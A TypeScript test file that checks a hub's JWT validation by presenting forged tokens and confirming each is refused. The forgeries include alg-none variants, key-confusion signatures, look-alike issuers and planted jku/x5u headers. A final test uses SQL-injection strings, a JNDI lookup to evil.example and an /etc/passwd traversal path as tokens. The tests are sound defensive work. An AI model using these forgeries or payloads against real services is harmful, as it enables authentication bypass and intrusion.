// Tokens that are unsigned, or signed for another purpose, each presented in all four ways that the hub accepts.
import { createServer } from "node:http";
import { once } from "node:events";
import type { AddressInfo } from "node:net";
import { SignJWT, UnsecuredJWT, exportJWK, generateKeyPair } from "jose";
import type { JWTHeaderParameters, JWTPayload } from "jose";
import { afterEach, expect, onTestFinished, test } from "vitest";
import { answersTo } from "../../../src/hub/guard/test-support/answers.test-helper.ts";
import { sign, startKeyServer } from "../../../src/hub/guard/test-support/jwks.test-helper.ts";
import { closeSockets } from "../../../src/hub/test-support/peer.test-helper.ts";
import { startHub } from "../support/hub-process.ts";
import { besiegeHub, issuer, secret } from "./besieged-hub.test-helper.ts";
import { startBystander } from "./bystander.test-helper.ts";
import { startTally } from "./tally.test-helper.ts";
import type { Tally } from "./tally.test-helper.ts";

const key = new TextEncoder().encode(secret);
const inAnHour = () => Math.floor(Date.now() / 1000) + 3600;
const aud = ["pagewire:agent", "pagewire:page"];

afterEach(() => closeSockets());

/** Claims that are valid for agents and pages, with changes; an undefined claim is left out. */
function claimsOf(changes: Record<string, unknown> = {}): JWTPayload {
  return JSON.parse(JSON.stringify({ sub: "ann", aud, iss: issuer, exp: inAnHour(), ...changes })) as JWTPayload;
}

const signed = (changes: Record<string, unknown> = {}, alg = "HS256", signingKey = key) =>
  sign(claimsOf(changes), { alg }, signingKey);

/** The refusal in each of the four ways. */
const refusedAs = (code: string) => [code, "401", code, code];

async function tryAll(hub: { readonly url: string }, tokens: Readonly<Record<string, string>>, tally: Tally) {
  for (const [name, token] of Object.entries(tokens)) {
    const must = refusedAs(name.startsWith("expired") ? "token-expired" : "token-invalid");
    for (const [way, answer] of (await answersTo(hub, token)).entries())
      tally.add(`${name}, ${way}`, answer, must[way]);
  }
}

/** The same claims under another header, which `jose` would refuse to sign. */
function reheaded(token: string, header: object): string {
  const [, body = "", signature = ""] = token.split(".");
  return `${Buffer.from(JSON.stringify(header)).toString("base64url")}.${body}.${signature}`;
}

test("H21, H26: a token that was not signed as it must be, or is good for too long, is refused wherever it is brought", async () => {
  const besieged = await besiegeHub();
  onTestFinished(() => besieged.close());
  const bystander = await startBystander(besieged);
  const good = await signed();
  expect(await answersTo(besieged.hub, good)).toEqual(["open", "open", "open", "open"]);
  const [head = "", body = "", signature = ""] = good.split(".");
  const forgedBody = Buffer.from(JSON.stringify(claimsOf({ sub: "bob" }))).toString("base64url");
  const century = inAnHour() + 100 * 365 * 24 * 3600;
  const now = inAnHour() - 3600;
  const tokens: Readonly<Record<string, string>> = {
    "no token at all": "x",
    "another secret": await signed({}, "HS256", new TextEncoder().encode(`${secret}!`)),
    "an empty secret's": `${head}.${body}.${Buffer.alloc(32).toString("base64url")}`,
    "another algorithm with the secret": await signed({}, "HS384"),
    "a stronger algorithm with the secret": await signed({}, "HS512"),
    "no algorithm": new UnsecuredJWT(claimsOf()).encode(),
    "no algorithm, in other letters": reheaded(`${head}.${body}.`, { alg: "nOnE" }),
    "no algorithm, with the old signature": reheaded(good, { alg: "none" }),
    "an algorithm that is no text": reheaded(good, { alg: ["HS256"] }),
    "no signature": `${head}.${body}.`,
    "two signatures": `${good}.${signature}`,
    "another subject under the old signature": `${head}.${forgedBody}.${signature}`,
    "another issuer": await signed({ iss: "https://evil.example" }),
    "an issuer alike": await signed({ iss: `${issuer}.evil.example` }),
    "no issuer": await signed({ iss: undefined }),
    "no audience": await signed({ aud: undefined }),
    "audiences alike": await signed({ aud: ["pagewire", "pagewire:agents", "pagewire:", "PAGEWIRE:AGENT"] }),
    "the audience of terminals": await signed({ aud: "pagewire:terminal" }),
    "no subject": await signed({ sub: undefined }),
    "an empty subject": await signed({ sub: "" }),
    "a subject that is no text": await signed({ sub: { a: 1 } }),
    "an origin that is no text": await signed({ origin: ["https://shop.example"] }),
    "an app that is no text": await signed({ app: 7 }),
    "an id that is no text": await signed({ jti: 7 }),
    "budgets that are none": await signed({ budgets: { strangerSockets: 1e9 } }),
    "budgets below nothing": await signed({ budgets: { tabsPerPrincipal: -1 } }),
    "no end": await signed({ exp: undefined }),
    "an end that is no number": await signed({ exp: "tomorrow" }),
    "an end in a hundred years": await signed({ exp: century }),
    "an end in a hundred years, issued shortly before": await signed({ exp: century, iat: century - 60 }),
    "an end in a hundred years, issued now": await signed({ exp: century, iat: now }),
    "not valid yet": await signed({ nbf: inAnHour() }),
    expired: await signed({ exp: now - 60 }),
    "expired a century ago": await signed({ exp: 1 }),
  };
  const tally = startTally(
    "tokens",
    "tokens with a wrong signature, algorithm, issuer, audience, subject, age or end, brought in four ways",
    "refused by name",
  );
  await tryAll(besieged.hub, tokens, tally);
  await bystander.expectUnharmed();
  tally.close();
});

/** A server that would supply the attacker's own keys; it must receive no request. */
async function startKeyTrap() {
  let requests = 0;
  const server = createServer((_, response) => {
    requests++;
    response.end("{}");
  });
  onTestFinished(() => void server.close());
  await once(server.listen(0, "127.0.0.1"), "listening");
  const { port } = server.address() as AddressInfo;
  return { url: `http://127.0.0.1:${port}/keys`, requests: () => requests };
}

test("H21: with public keys, a token of any other key is refused, and no key is fetched from where a token says", async () => {
  const keys = await startKeyServer();
  const trap = await startKeyTrap();
  const hub = await startHub({ args: ["--json", "--no-demo", "--no-model", "--jwks", keys.url] });
  onTestFinished(() => hub.close());
  const claims = claimsOf({ aud });
  for (const algorithm of ["RS256", "ES256"] as const)
    expect(await answersTo(hub, await keys.sign(algorithm, claims))).toEqual(["open", "open", "open", "open"]);
  const own = await generateKeyPair("RS256");
  const jwk = await exportJWK(own.publicKey);
  const byOwnKey = (more: Partial<JWTHeaderParameters>) =>
    new SignJWT(claims).setProtectedHeader({ alg: "RS256", ...more }).sign(own.privateKey);
  const byPublicKey = keys.publicTexts.flatMap((text) =>
    [{ alg: "HS256" }, { alg: "HS256", kid: "RS256" }].map((header) => sign(claims, header, Buffer.from(text))),
  );
  const tokens = {
    ...Object.fromEntries(
      (await Promise.all(byPublicKey)).map((token, at) => [`a public key as secret, ${at}`, token]),
    ),
    "a secret": await sign(claims, { alg: "HS256" }, key),
    "no algorithm": new UnsecuredJWT(claims).encode(),
    "another key under a known id": await byOwnKey({ kid: "RS256" }),
    "another key under the id of another kind": await byOwnKey({ kid: "ES256" }),
    "an unknown key": await byOwnKey({ kid: "evil" }),
    "an id that is a path": await byOwnKey({ kid: "../../../../dev/null" }),
    "an id that is SQL": await byOwnKey({ kid: "' UNION SELECT 'key' --" }),
    "no id": await byOwnKey({}),
    "its own key": await byOwnKey({ kid: "RS256", jwk }),
    "an address of keys": await byOwnKey({ kid: "RS256", jku: trap.url, jwk }),
    "an address of a certificate": await byOwnKey({ kid: "RS256", x5u: trap.url }),
    "another's signature": reheaded(await keys.sign("ES256", claims), { alg: "RS256", kid: "RS256" }),
  };
  const tally = startTally(
    "tokens",
    "tokens of unknown, public, embedded and fetched keys, brought in four ways",
    "refused by name",
  );
  await tryAll(hub, tokens, tally);
  expect(trap.requests()).toBe(0);
  tally.close();
});

test("H4: what looks like a query of a database, a path or a template, as a token, lets nobody in", async () => {
  const besieged = await besiegeHub();
  onTestFinished(() => besieged.close());
  const words = [
    "' OR '1'='1",
    "'; DROP TABLE tokens; --",
    "admin'--",
    '" OR ""="',
    "1 UNION SELECT token FROM app_sessions",
    "pagewire-app.' OR 1=1 --",
    `pagewire-app.${"%".repeat(43)}`,
    "pagewire-terminal.' OR 1=1 --",
    "pagewire-proven.x.y",
    "${jndi:ldap://evil.example}",
    "{{7*7}}",
    "../../../../etc/passwd",
    "null",
    "undefined",
    "[object Object]",
    "__proto__",
    "true",
    "*",
    "%00",
  ];
  const tally = startTally(
    "tokens",
    "queries, paths, templates and names of prototypes as a token, in three ways",
    "refused",
  );
  for (const word of words) {
    // An upgrade whose header holds no token may still send one in its first frame; this tries both.
    const [byRequest = "", , ...inFrames] = await answersTo(besieged.hub, word);
    for (const answer of [byRequest, ...inFrames])
      tally.add(word, /^token-(invalid|expired|required)$/.test(answer) ? "refused" : answer);
  }
  expect(besieged.hub.output()).not.toContain('"level":"error"');
  tally.close();
});
